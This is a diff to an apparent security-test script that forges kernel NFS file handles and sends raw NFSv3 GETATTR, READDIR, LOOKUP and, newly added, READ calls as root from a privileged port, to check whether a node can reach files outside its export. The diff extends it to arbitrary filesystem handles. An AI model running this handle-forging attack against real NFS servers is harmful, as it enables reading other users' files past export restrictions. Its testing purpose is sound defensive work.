@@ -2,7 +2,7 @@
 
 The attacks of issue 11 item 4: a root user on a node forges kernel-nfsd file handles (the
 export's `fsid=` number and an inode/generation pair) and asks GETATTR, READDIR and LOOKUP
-with them. Run as a script inside a namespace holding a node's address:
+with them (and READ). Run as a script inside a namespace holding a node's address:
 
     python -m oneroot.testing.nfs3raw SERVER HANDLES.json    # prints {name: [proc, status]} as JSON
 
@@ -19,7 +19,7 @@ import struct
 import sys
 
 NFS_PROGRAM, NFS_V3 = 100003, 3
-GETATTR, LOOKUP, READDIR = 1, 3, 16
+GETATTR, LOOKUP, READ, READDIR = 1, 3, 6, 16
 AUTH_SYS = 1
 # knfsd's file handle, version 1: version, auth type, fsid type, fileid type, fsid, fileid.
 FSID_NUM = 1  # a 4-byte `fsid=` number
@@ -29,9 +29,14 @@ FILEID_INO32_GEN = 1  # ext4's handle: inode, generation
 
 def knfsd_handle(fsid: int, ino: int | None = None, generation: int = 0) -> bytes:
     if ino is None:
-        return bytes([1, 0, FSID_NUM, FILEID_ROOT]) + struct.pack("<I", fsid)
-    return (bytes([1, 0, FSID_NUM, FILEID_INO32_GEN]) + struct.pack("<I", fsid)
-            + struct.pack("<II", ino, generation))
+        return knfsd_raw_handle(fsid, FILEID_ROOT, b"")
+    return knfsd_raw_handle(fsid, FILEID_INO32_GEN, struct.pack("<II", ino, generation))
+
+
+def knfsd_raw_handle(fsid: int, fileid_type: int, fileid: bytes) -> bytes:
+    """Any filesystem's handle (`fileid_type`, `fileid` as name_to_handle_at gives them, e.g.
+    overlayfs's 0xf8) under the export with `fsid=`."""
+    return bytes([1, 0, FSID_NUM, fileid_type]) + struct.pack("<I", fsid) + fileid
 
 
 def _opaque(data: bytes) -> bytes:
@@ -43,14 +48,14 @@ def _auth_sys() -> bytes:
     return struct.pack(">I", AUTH_SYS) + _opaque(body)
 
 
-class Nfs3:
-    """One TCP connection from a privileged port; `call` returns the NFS status word."""
+class Rpc:
+    """One ONC RPC connection over TCP from a privileged port, AUTH_SYS as root."""
 
-    def __init__(self, server: str, port: int = 2049) -> None:
+    def __init__(self, server: str, port: int = 2049, *, source: str = "") -> None:
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         for _ in range(50):
             try:
-                self.sock.bind(("", random.randint(600, 1023)))
+                self.sock.bind((source, random.randint(600, 1023)))
                 break
             except OSError:
                 continue
@@ -58,9 +63,11 @@ class Nfs3:
         self.sock.connect((server, port))
         self.xid = random.randint(1, 1 << 30)
 
-    def call(self, proc: int, args: bytes) -> int:
+    def call(self, program: int, version: int, proc: int, args: bytes) -> int | bytes:
+        """The reply's results (bytes), or a negative number when the RPC layer refused:
+        -1000 - reject_stat (MSG_DENIED), -2000 - accept_stat (e.g. GARBAGE_ARGS)."""
         self.xid += 1
-        msg = (struct.pack(">IIIIII", self.xid, 0, 2, NFS_PROGRAM, NFS_V3, proc)
+        msg = (struct.pack(">IIIIII", self.xid, 0, 2, program, version, proc)
                + _auth_sys() + struct.pack(">II", 0, 0) + args)
         self.sock.sendall(struct.pack(">I", 0x80000000 | len(msg)) + msg)
         reply = self._record()
@@ -68,13 +75,13 @@ class Nfs3:
         if xid != self.xid or mtype != 1:
             raise RuntimeError(f"unexpected reply xid={xid} type={mtype}")
         if stat != 0:
-            return -1000 - stat  # MSG_DENIED: refused at the RPC layer
+            return -1000 - stat
         verf_len = int(struct.unpack(">I", reply[16:20])[0])
         at = 20 + verf_len + (-verf_len % 4)
         accept = int(struct.unpack(">I", reply[at:at + 4])[0])
         if accept != 0:
-            return -2000 - accept  # e.g. GARBAGE_ARGS, SYSTEM_ERR
-        return int(struct.unpack(">I", reply[at + 4:at + 8])[0])
+            return -2000 - accept
+        return reply[at + 4:]
 
     def _record(self) -> bytes:
         data = b""
@@ -93,14 +100,26 @@ class Nfs3:
             buf += chunk
         return buf
 
+
+
+class Nfs3(Rpc):
+    """NFSv3 procedures; each returns the NFS status word (0 = NFS3_OK: answered)."""
+
+    def nfs(self, proc: int, args: bytes) -> int:
+        reply = self.call(NFS_PROGRAM, NFS_V3, proc, args)
+        return reply if isinstance(reply, int) else int(struct.unpack(">I", reply[:4])[0])
+
     def getattr(self, fh: bytes) -> int:
-        return self.call(GETATTR, _opaque(fh))
+        return self.nfs(GETATTR, _opaque(fh))
 
     def lookup(self, fh: bytes, name: str) -> int:
-        return self.call(LOOKUP, _opaque(fh) + _opaque(name.encode()))
+        return self.nfs(LOOKUP, _opaque(fh) + _opaque(name.encode()))
 
     def readdir(self, fh: bytes) -> int:
-        return self.call(READDIR, _opaque(fh) + struct.pack(">QQI", 0, 0, 4096))
+        return self.nfs(READDIR, _opaque(fh) + struct.pack(">QQI", 0, 0, 4096))
+
+    def read(self, fh: bytes) -> int:
+        return self.nfs(READ, _opaque(fh) + struct.pack(">QI", 0, 4096))
 
 
 def attack(server: str, handles: dict[str, str]) -> dict[str, dict[str, int]]:
@@ -110,7 +129,7 @@ def attack(server: str, handles: dict[str, str]) -> dict[str, dict[str, int]]:
     for name, hexfh in handles.items():
         fh = bytes.fromhex(hexfh)
         results[name] = {"getattr": client.getattr(fh), "readdir": client.readdir(fh),
-                         "lookup": client.lookup(fh, "etc")}
+                         "lookup": client.lookup(fh, "etc"), "read": client.read(fh)}
     return results
 
 
